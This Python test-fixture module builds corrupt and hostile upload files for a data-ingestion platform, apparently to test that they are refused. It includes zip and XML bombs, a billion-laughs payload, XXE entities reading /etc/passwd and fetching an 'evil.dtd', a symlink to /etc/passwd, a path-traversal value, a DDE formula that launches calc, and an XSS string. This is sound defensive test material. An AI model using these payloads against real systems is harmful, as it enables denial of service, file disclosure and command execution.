"""Files that want to do harm, or came to harm; each made from a good office file where it can be."""

import csv
import gzip
import io
import json
import os
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

from openpyxl import Workbook

HEAD = ["*行政区划代码", "行政区划名称", "*年份", "*常住人口（人）", "*口径", "*公布日", "公布文件", "记录操作", "数据性质"]
ROW = ["610802", "榆阳区", "2031", "905100", "年末常住人口", "2032-04-15", "敌意文件", "", "示例数据"]
LINE = {"src_id": "1", "app_no": "CN85105156", "title": "敌意文件", "abstract": "敌意", "ipc_subclass": "A01B"}
RIGHT_TO_LEFT = "\u202e"
UNBOUNDED_MB = 200


def residents(*rows: list[str], head: list[str] = HEAD) -> bytes:
    """A CSV of the platform's template of residents."""
    file = io.StringIO()
    csv.writer(file).writerows([head, *rows])
    return file.getvalue().encode("utf-8-sig")


def cell(column: int, text: str) -> list[str]:
    """The good row with one cell replaced."""
    return [text if place == column else old for place, old in enumerate(ROW)]


def line(**change: object) -> bytes:
    """One line of the agricultural collection."""
    return json.dumps(LINE | change).encode() + b"\n"


def packed(**members: bytes) -> bytes:
    """A zip of the members."""
    return packed_as(dict(members))


def packed_as(members: dict[str, bytes]) -> bytes:
    """A zip whose members may have any name."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return file.getvalue()


def replaced(book: bytes, part: str, data: bytes) -> bytes:
    """A workbook with one part replaced."""
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return packed_as({name: data if name == part else archive.read(name) for name in archive.namelist()})


def with_link(data: bytes) -> bytes:
    """A zip in which a member is a symbolic link to a file of the machine, beside a document."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        link = zipfile.ZipInfo("link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("b.xml", data)
    return file.getvalue()


def nested(depth: int) -> bytes:
    """Zips in zips."""
    inner = b"<a/>"
    for level in range(depth):
        inner = packed_as({f"{level}.zip" if level else "a.xml": inner})
    return inner


def cut(data: bytes, share: float = 0.6) -> bytes:
    """The beginning of a file whose end was lost."""
    return data[: int(len(data) * share)]


def with_doctype(document: bytes, doctype: str, inside: str) -> bytes:
    """A document with a DOCTYPE, that uses an entity at its beginning."""
    text = document.decode("utf-8")
    head, _, rest = text.partition("?>")
    root_ends = rest.index(">", rest.index("<", rest.index("<!--") + 4 if "<!--" in rest[:400] else 0)) + 1
    return f"{head}?>{doctype}{rest[:root_ends]}{inside}{rest[root_ends:]}".encode()


LAUGHS = "<!DOCTYPE a [<!ENTITY l0 \"哈\">" + "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
) + "]>"
OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://127.0.0.1:9/evil.dtd">%x;]>'


def refused(export: bytes, template: bytes, document: bytes, archive: bytes) -> Iterator[tuple[str, bytes]]:
    """Files of which nothing may be kept, made from a CNIPR export, a template, a document and a zip of documents."""
    lines = b"".join(line(app_no=f"CN8510{n:04d}") for n in range(400))
    yield "cut.jsonl.gz", cut(gzip.compress(lines))
    yield "checksum.jsonl.gz", gzip.compress(lines)[:-8] + b"\0" * 8
    yield "cut-export.xlsx", cut(export)
    yield "cut-template.xlsx", cut(template, 0.95)
    yield "cut.xml", cut(document)
    yield "cut.zip", cut(archive)
    yield "bomb.zip", packed(a=b"", b=b"<a>" + b" " * 300_000_000)
    yield "bomb.xlsx", replaced(export, "xl/worksheets/sheet1.xml", b" " * 300_000_000)
    yield "bomb-of-sheet-beginning-well.xlsx", replaced(export, "xl/worksheets/sheet1.xml", _member(export) + b" " * 300_000_000)
    yield "bomb.jsonl.gz", gzip.compress(line() + b'{"app_no": "' + b"9" * 300_000_000, 1)
    yield "nested.zip", nested(30)
    yield "outside.xml", with_doctype(document, OUTSIDE, "&x;")
    yield "laughs.xml", with_doctype(document, LAUGHS, "&l9;")
    yield "parameter.xml", with_doctype(document, PARAMETER, "")
    yield "outside.zip", packed_as({"a.xml": with_doctype(document, OUTSIDE, "&x;")})
    yield "deep.xml", document[:-20] + b"<a>" * 100_000
    yield "claims-utf8.xml", document.replace("示例".encode(), "示例".encode("gb18030"))
    yield "claims-utf8.csv", "行政区划代码,年份\n".encode() + "榆林,敌意文件\n".encode("gb18030") + b"\xff\xff\x00"
    yield "picture.xlsx", b"\x89PNG\r\n\x1a\n" + os.urandom(4000)
    yield "program.csv", b"MZ" + os.urandom(4000)
    yield "old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000)
    yield "empty.csv", b""
    yield "empty.zip", packed_as({})
    yield "only-bom.csv", b"\xef\xbb\xbf"
    yield "only-lines.jsonl", b"\n" * 1000
    yield "unknown-column.csv", residents([*ROW, "x"], head=[*HEAD, "县长电话"])
    yield "missing-column.csv", residents(cell(3, ""), head=[*HEAD[:3], "人数", *HEAD[4:]])
    yield "twice-the-column.csv", residents([*ROW, "1"], head=[*HEAD, "*常住人口（人）"])
    yield "many-columns.csv", residents(ROW, head=[*HEAD, *(f"列{n}" for n in range(50_000))])
    yield "one-line-of-quotes.csv", residents(ROW) + b'"' + b"x" * 30_000_000
    yield "deep.jsonl", line() + b"[" * 200_000 + b"\n"
    yield "deep-in-line.jsonl", line() + b'{"app_no":' + b"[" * 200_000 + b"\n"
    yield "no-objects.jsonl", line() + b"12\nnull\n\"x\"\n"
    yield "half.jsonl", line() + line()[:40]


def _member(book: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


BAD_CELLS: dict[str, tuple[int, str]] = {
    "a number without end": (3, "9" * 5000),
    "more people than an integer holds": (3, "99999999999999999999"),
    "fewer than none": (3, "-5"),
    "a number in words": (3, "九十万"),
    "not a number": (3, "NaN"),
    "infinity": (3, "1e999"),
    "a formula": (3, "=1+905100"),
    "a command": (3, "=cmd|' /C calc'!A0"),
    "a year beyond time": (2, "99999"),
    "a day that never was": (5, "2032-02-30"),
    "a day beyond time": (5, "99999-01-01"),
    "a district of another city": (0, "110101"),
    "a district out of nowhere": (0, "../../etc/passwd"),
    "a choice that is none": (4, "<script>alert(1)</script>"),
    "a zero byte": (3, "9\x0051"),
}
"""What is wrong with a cell → its column and text; the row waits for a person, the file's other rows are read."""


def formulas(formula: str, kept: str | None) -> bytes:
    """A workbook of residents in which the number is a formula, with the value that the office's program kept, or none."""
    book = Workbook()
    book.active.append(HEAD)
    book.active.append(cell(3, "PLACE"))
    book.active.append(cell(2, "2032"))
    file = io.BytesIO()
    book.save(file)
    value = "" if kept is None else f"<v>{kept}</v>"
    with zipfile.ZipFile(io.BytesIO(file.getvalue())) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    part = "xl/worksheets/sheet1.xml"
    members[part] = re.sub(
        rb'<c r="D2"[^>]*>.*?</c>', f'<c r="D2"><f>{formula}</f>{value}</c>'.encode(), members[part]
    )
    assert formula.encode() in members[part]
    return packed_as(members)


def sparse(path: Path, start: bytes = b"") -> None:
    """A file of zeros that takes no room on the disk, behind a beginning."""
    with path.open("wb") as file:
        file.write(start)
        file.truncate(UNBOUNDED_MB * 1024 * 1024)
